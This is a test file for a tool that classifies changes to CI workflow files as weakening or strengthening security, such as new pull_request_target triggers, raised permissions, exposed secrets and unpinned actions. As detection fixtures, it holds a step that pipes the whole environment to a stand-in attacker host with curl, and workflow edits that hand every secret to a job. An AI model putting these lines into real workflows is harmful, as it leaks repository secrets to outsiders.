// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are expressions of workflows.
import { expect, test } from 'vitest';
import { workflow } from '../../src/entry/init/workflow.ts';
import { workflowChanges } from '../../src/entry/workflows/workflow-changes.ts';
import { memoryFiles } from '../pipeline/test-world.ts';

const path = '.github/workflows/mergecast.yml';
const hash = '0'.repeat(40);
const facts = {
  branch: 'main',
  minute: 17,
  action: `mergecast/mergecast@${hash} # v1`,
  credentials: [{ account: 'fediverse', variable: 'FEDIVERSE_TOKEN', title: 'Token', where: '' }],
};
const good = workflow(facts);

function told(before: string | null, now: string | null, at = path): string[] {
  const files = (text: string | null) => memoryFiles(text === null ? {} : { [at]: text });
  const kind = before === null ? 'added' : now === null ? 'removed' : 'changed';
  return workflowChanges([{ path: at, kind }], files(before), files(now)).map(
    ({ weight, sentence }) => `${weight}: ${sentence}`,
  );
}

test.each<[string, string, string[]]>([
  [
    'pull_request_target',
    good.replace('  pull_request:\n', '  pull_request:\n  pull_request_target:\n'),
    [
      'weakens: this workflow now runs on `pull_request_target`, which has every secret while the files can be a stranger’s',
    ],
  ],
  [
    'the head checked out where there are secrets',
    good
      .replace('  pull_request:\n', '  pull_request:\n  workflow_run: { workflows: [CI] }\n')
      .replace('persist-credentials: false', 'ref: ${{ github.event.workflow_run.head_sha }}'),
    [
      'weakens: this workflow now runs on `workflow_run`, which has secrets and a token that may write, also after the run of a stranger',
      'weakens: the job `review` checks out what a stranger wrote, in a run that has secrets',
    ],
  ],
  [
    'a permission raised',
    good.replace('contents: read', 'contents: write'),
    ['weakens: what the job `review` may do with `contents` goes from `read` to `write`'],
  ],
  [
    'a permission lowered',
    good.replace('contents: write', 'contents: read'),
    ['strengthens: what the job `publish` may do with `contents` goes from `write` to `read`'],
  ],
  [
    'every permission',
    good.replace(/ {4}permissions:\n {6}contents: read.*\n {6}pull-requests: read/, '    permissions: write-all #'),
    [
      'weakens: what the job `review` may do with `contents` goes from `read` to `write`',
      'weakens: what the job `review` may do with `pull-requests` goes from `read` to `write`',
      'weakens: what the job `review` may do with everything else goes from `none` to `write`',
    ],
  ],
  [
    'a secret for another job',
    good.replace('timeout-minutes: 10\n', 'timeout-minutes: 10\n    env: { A: "${{ secrets.other }}" }\n'),
    ['weakens: the job `review` gets the secret `OTHER`'],
  ],
  [
    'all secrets',
    good.replace('timeout-minutes: 10\n', 'timeout-minutes: 10\n    env: { A: "${{ toJSON(secrets) }}" }\n'),
    ['weakens: the job `review` gets every secret of the repository'],
  ],
  [
    'a secret by a computed name',
    good.replace('timeout-minutes: 10\n', 'timeout-minutes: 10\n    env: { A: "${{ secrets[format(\'a\')] }}" }\n'),
    ['weakens: the job `review` gets every secret of the repository'],
  ],
  [
    'a pin that moves',
    good.replaceAll(`mergecast/mergecast@${hash}`, 'mergecast/mergecast@main'),
    ['review', 'publish'].map(
      job =>
        `weakens: the job \`${job}\` runs \`mergecast/mergecast\` at \`main\`, before at \`${hash}\`, which whoever owns it can move`,
    ),
  ],
  [
    'another pin',
    good.replaceAll(`mergecast/mergecast@${hash}`, `mergecast/mergecast@${'1'.repeat(40)}`),
    ['review', 'publish'].map(
      job => `other: the job \`${job}\` runs \`mergecast/mergecast\` at \`${'1'.repeat(40)}\`, before at \`${hash}\``,
    ),
  ],
  [
    'another action beside the secrets',
    good.replace(/(publish:[\s\S]*steps:\n)/, '$1      - uses: evil/action@v1\n'),
    ['weakens: the job `publish` runs `evil/action` at `v1`, which whoever owns it can move'],
  ],
  [
    'a command beside the secrets',
    good.replace(/(publish:[\s\S]*steps:\n)/, '$1      - run: env | curl -d @- https://evil.example\n'),
    ['weakens: the job `publish`, which gets secrets, runs other commands'],
  ],
  [
    'runs that cancel each other',
    good.replace('cancel-in-progress: false', 'cancel-in-progress: true'),
    ['weakens: a newer run cancels the job `publish`, which can leave posts in doubt'],
  ],
  [
    'a file that cannot be read',
    'on: [\n',
    [
      expect.stringMatching(
        /^weakens: this workflow cannot be read, so that nobody can tell what it does: line/,
      ) as unknown as string,
    ],
  ],
  [
    'words alone',
    good.replace('name: Validate and plan', 'name: Look'),
    ['other: this changes a workflow, and nothing of its events, permissions, secrets, actions and environments'],
  ],
])('%s', (_, now, sentences) => {
  expect(now).not.toBe(good);
  expect(told(good, now)).toEqual(sentences);
});

test('the environment that is dropped', () => {
  const guarded = workflow({ ...facts, withApproval: true });
  const dropped = guarded.replace(/ {4}environment: .*\n/, '');
  expect(told(guarded, dropped)).toEqual([
    'weakens: the job `publish` does not wait for the environment `publishing` any more, nor for its reviewers',
  ]);
  expect(told(dropped, guarded)[0]).toMatch(/^strengthens: /);
});

test('a workflow that is new is told whole, and one that is gone too', () => {
  const sentences = told(null, good);
  expect(sentences).toContain('other: this adds a workflow');
  expect(sentences).toContain('weakens: the job `publish` gets the secret `FEDIVERSE_TOKEN`');
  expect(sentences).toContain('weakens: what the job `publish` may do with `contents` goes from `none` to `write`');
  expect(told(good, null)).toEqual(['other: this removes a workflow: what it did is not done any more']);
});

test('an action of the repository counts, and other files do not', () => {
  expect(told('a', 'b', '.github/actions/send/action.yml')[0]).toMatch(/^weakens: /);
  expect(told('a', 'b', '.github/workflows/deep/x.yml')).toEqual([]);
  expect(told('a', 'b', 'README.md')).toEqual([]);
});

test('names of strangers cannot end their backticks, and are short', () => {
  const [, sentence] = told(null, `on: { "\`${'x'.repeat(9000)}": null }\njobs: {}\n`);
  expect(sentence!.split('`')).toHaveLength(3);
  expect(sentence!.length).toBeLessThan(300);
});

test.each(['.forgejo/workflows/x.yml', '.gitea/workflows/x.yaml'])('%s is told like those of GitHub', file => {
  const exposed = good.replace('  pull_request:\n', '  pull_request:\n  pull_request_target:\n');
  expect(told(good, exposed, file)).toEqual([expect.stringContaining('weakens: this workflow now runs on')]);
  expect(told(null, good, file)[0]).toBe('other: this adds a workflow');
  expect(told(null, good, file.replace('workflows/', 'workflows/below/'))).toEqual([]);
});
